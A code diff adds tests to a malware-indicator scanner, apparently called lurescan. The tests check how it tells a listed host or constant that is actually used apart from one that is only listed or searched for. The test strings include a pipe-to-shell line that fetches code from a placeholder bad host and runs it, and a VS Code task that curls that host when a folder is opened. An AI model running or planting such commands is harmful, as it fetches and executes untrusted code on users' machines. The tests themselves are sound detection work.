@@ -2,10 +2,11 @@
 
 use std::fmt::Write as _;
 
-use lurescan::artifact::Kind;
+use lurescan::analyse::{CommandLine, Facts, Platform, Start};
+use lurescan::artifact::{Kind, Text};
 use lurescan::engine::{Engine, EngineOptions};
 use lurescan::intel::{Intel, What};
-use lurescan::signal::Basis;
+use lurescan::signal::{Basis, Moment};
 
 use crate::subject::{artifact, engine, layer, matched};
 
@@ -103,7 +104,7 @@ fn a_literal_in_a_test_file_is_what_is_tested() {
 
 #[test]
 fn a_file_with_many_deciding_indicators_is_a_list() {
-    let intel = Intel::load().expect("the table loads");
+    let intel = Intel::load();
     let hosts = intel.rows().iter().filter(|row| row.decides && row.what == What::Domain).take(8);
     let mut text = String::from("const blocked = [\n");
     for row in hosts {
@@ -114,6 +115,36 @@ fn a_file_with_many_deciding_indicators_is_a_list() {
     assert_eq!(mine.len(), 1);
     assert_eq!(mine[0].basis, Basis::Context);
     assert!(mine[0].message.contains("list"), "{}", mine[0].message);
+}
+
+#[test]
+fn a_constant_that_is_used_decides_and_one_in_a_list_is_searched_for() {
+    let used = "const key = 'LurescanSelfTest@)@^Constant';";
+    assert_eq!(basis("src/a.js", Kind::JavaScript, used), Some(Basis::ExactIntelligence));
+    let listed = "module.exports = [\n  'LurescanSelfTest@)@^Constant',\n  'other',\n];";
+    assert_eq!(basis("src/a.js", Kind::JavaScript, listed), Some(Basis::Context));
+}
+
+#[test]
+fn what_is_searched_for_or_shown_is_not_used() {
+    for (path, kind, text) in [
+        ("scan.sh", Kind::Shell, format!("  fast_grep_files_fixed \"{HOST}\" < list | while read f; do")),
+        ("scan.sh", Kind::Shell, format!("echo \"$file: known host ({HOST})\" >> found.txt")),
+        ("scan.js", Kind::JavaScript, format!("if (text.includes('{HOST}')) hits += 1;")),
+        ("scan.py", Kind::Python, format!("print(\"seen: {HOST}\")")),
+    ] {
+        assert_eq!(basis(path, kind, &text), Some(Basis::Context), "{text}");
+    }
+    for text in [format!("echo https://{HOST} | xargs curl -s | sh"), format!("curl https://{HOST} | grep x")] {
+        assert_eq!(basis("a.sh", Kind::Shell, &text), Some(Basis::ExactIntelligence), "{text}");
+    }
+}
+
+#[test]
+fn a_dependency_of_a_fixture_is_context_and_of_the_target_itself_decides() {
+    let manifest = r#"{"dependencies":{"lurescan-self-test-package":"1"}}"#;
+    assert_eq!(basis("test-cases/attack/package.json", Kind::Json, manifest), Some(Basis::Context));
+    assert_eq!(basis("packages/app/package.json", Kind::Json, manifest), Some(Basis::ExactIntelligence));
 }
 
 #[test]
@@ -167,6 +198,30 @@ fn a_bad_version_is_that_version_and_no_other() {
     let manifest = |range: &str| format!(r#"{{"dependencies":{{"lurescan-self-test-release":"{range}"}}}}"#);
     assert_eq!(basis("package.json", Kind::Json, &manifest("6.6.6")), Some(Basis::ExactIntelligence));
     assert_eq!(basis("package.json", Kind::Json, &manifest("^6.6.0")), None);
+}
+
+#[test]
+fn a_listed_host_in_a_command_runs_when_the_command_does() {
+    let bytes = format!("{{\"command\": \"curl https://{HOST}\", \"other\": 1}}");
+    let artifact = artifact(".vscode/tasks.json", Kind::Json, bytes.as_bytes());
+    let text = Text::new(bytes.as_bytes());
+    let place = text.place(12..50);
+    let command = CommandLine { text: String::new(), place, platform: Platform::Any, actions: Vec::new() };
+    let start = Start {
+        moment: Moment::Open,
+        by: "task".to_owned(),
+        label: String::new(),
+        platform: Platform::Any,
+        command: Some(0),
+        file: None,
+        concealments: Vec::new(),
+        place: text.place(0..0),
+    };
+    let facts = Facts { starts: vec![start], commands: vec![command], ..Facts::default() };
+    let engine = engine();
+    let mut signals = Vec::new();
+    engine.match_artifact(&mut engine.analyst(), &artifact, &text, &facts, &mut signals, &mut |_, _| {});
+    assert_eq!(signals.first().map(|s| s.moment), Some(Some(Moment::Open)), "{signals:?}");
 }
 
 #[test]
